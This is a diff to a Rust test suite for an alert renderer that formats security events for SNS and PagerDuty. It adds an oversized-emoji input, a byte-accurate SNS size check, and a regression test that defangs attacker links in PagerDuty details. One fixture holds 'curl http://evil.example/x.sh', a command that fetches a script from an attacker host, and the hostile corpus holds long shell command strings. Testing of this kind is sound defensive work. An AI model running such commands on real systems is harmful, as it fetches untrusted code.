@@ -144,6 +144,8 @@ fn hostile() -> Vec<(&'static str, String)> {
         // Every character grows when escaped: limits must hold after escaping.
         ("long entities", format!("bash -c '{}'", "&<>🙂\"".repeat(2000))),
         ("command line of 2,258 characters", format!("sh -c 'a&&b<c>d {}'", "x&y ".repeat(560))),
+        // Four bytes per character: a limit counted in characters is exceeded in bytes.
+        ("emoji flood", "🙂".repeat(50_000)),
     ]
 }
 
@@ -226,7 +228,14 @@ fn every_renderer_survives_the_adversarial_corpus() {
                             && !subject.chars().any(|c| c.is_control()),
                         "sns/{case}: {subject:?}"
                     );
-                    assert!(message.len() < 256 * 1024, "sns/{case}: message too big");
+                    // SNS counts bytes of the message, subject and attributes together.
+                    let total = subject.len()
+                        + message.len()
+                        + attributes
+                            .iter()
+                            .map(|(k, v)| k.len() + v.len() + 6)
+                            .sum::<usize>();
+                    assert!(total <= 256 * 1024, "sns/{case}: {total} bytes");
                     for key in [
                         "severity",
                         "type",
@@ -516,4 +525,38 @@ fn multi_line_descriptions_keep_their_line_breaks_in_every_body() {
             );
         }
     }
+}
+
+#[test]
+fn pagerduty_details_are_defanged_and_keep_every_repeated_label() {
+    // Regression: custom_details showed attacker links live, and a label
+    // that repeats (three coverage issues) kept only the last value.
+    let config = config();
+    let alert = alert_for(
+        &hostile_event("curl http://evil.example/x.sh"),
+        Lifecycle::New,
+    );
+    let Payload::Json { body } = render(&alert, &config.destinations["pagerduty"]).unwrap() else {
+        panic!("PagerDuty renders JSON")
+    };
+    let details = body["payload"]["custom_details"].to_string();
+    assert!(!details.contains("http://evil"), "{details}");
+    assert!(!details.contains("evil.example"), "{details}");
+    assert!(details.contains("evil[.]example"), "{details}");
+
+    let mut alert = alert_for(
+        &fixture("runtime-protection-unhealthy-ecs-fargate.real.json"),
+        Lifecycle::Opened,
+    );
+    let issue = alert.coverage_issues[0].clone();
+    alert.coverage_issues = vec![issue.clone(), issue.clone(), issue];
+    alert.coverage_issues[1].detail = "second".into();
+    alert.coverage_issues[2].detail = "third".into();
+    let Payload::Json { body } = render(&alert, &config.destinations["pagerduty"]).unwrap() else {
+        panic!("PagerDuty renders JSON")
+    };
+    let issues = body["payload"]["custom_details"]["Issue"]
+        .as_array()
+        .unwrap_or_else(|| panic!("{body}"));
+    assert_eq!(issues.len(), 3, "{issues:?}");
 }
